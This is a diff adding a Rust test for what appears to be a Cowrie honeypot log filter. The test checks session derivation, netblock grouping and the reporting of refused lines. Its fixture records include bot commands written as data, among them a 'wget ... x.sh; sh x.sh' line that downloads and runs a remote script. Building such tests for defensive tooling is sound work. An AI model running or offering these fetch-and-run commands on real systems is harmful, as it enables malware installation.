@@ -128,3 +128,69 @@ fn a_file_is_read_as_the_archive_reads_it() {
         assert!(out.contains("name René"), "{out}");
     }
 }
+
+/// Two sessions of one bot, a record a line.
+fn sessions() -> String {
+    let mut lines = String::new();
+    for (session, word, address) in [
+        ("a1", "QWERT", "203.0.113.80"),
+        ("b2", "ZXKVB", "198.51.100.4"),
+    ] {
+        for (second, input) in [
+            format!("cat /proc/mounts; /bin/busybox {word}"),
+            format!("cd /tmp; wget http://{address}/x.sh; sh x.sh"),
+        ]
+        .iter()
+        .enumerate()
+        {
+            lines += &format!(
+                r#"{{"eventid": "cowrie.command.input", "session": "{session}", "src_ip": "203.0.113.7", "input": "{input}", "timestamp": "2026-01-02T03:04:0{second}Z"}}"#
+            );
+            lines.push('\n');
+        }
+    }
+    lines
+}
+
+#[test]
+fn lines_are_records_and_sessions_are_derived_from() {
+    let out = filter(&["cowrie", "--lines"], &sessions()).good();
+    for line in [
+        "derived by netblock@1",
+        "cidr 203.0.113.0/24",
+        "derived by behaviour@1",
+        "command_count 2",
+    ] {
+        assert!(out.contains(line), "{line}\n{out}");
+    }
+    let documents = json_of(&filter(&["cowrie", "--lines", "--json"], &sessions()).good());
+    let documents = documents.as_array().unwrap();
+    let behaviours: Vec<&Value> = documents
+        .iter()
+        .filter(|document| document["itype"] == "event" && document["sub_type"] == "behaviour")
+        .collect();
+    assert_eq!(
+        behaviours.len(),
+        1,
+        "two sessions of one bot at one time are one event"
+    );
+    assert_eq!(behaviours[0]["derived"], true);
+
+    // of one record, the documents are those of the first stage, unless it is said
+    let line = sessions().lines().next().unwrap().to_owned();
+    let has_derived = |out: String| out.contains("\"derived\"");
+    assert!(!has_derived(filter(&["cowrie", "--json"], &line).good()));
+    assert!(has_derived(
+        filter(&["cowrie", "--json", "--derived"], &line).good()
+    ));
+
+    // a line that is refused is told, and the others go on
+    let mixed = format!("{line}\n{{\"eventid\": \"cowrie.command.input\"}}\n");
+    let told = filter(&["cowrie", "--lines"], &mixed);
+    assert!(
+        told.err.contains("line 2: refused by the filter cowrie@"),
+        "{}",
+        told.err
+    );
+    assert_eq!(told.code, 0);
+}
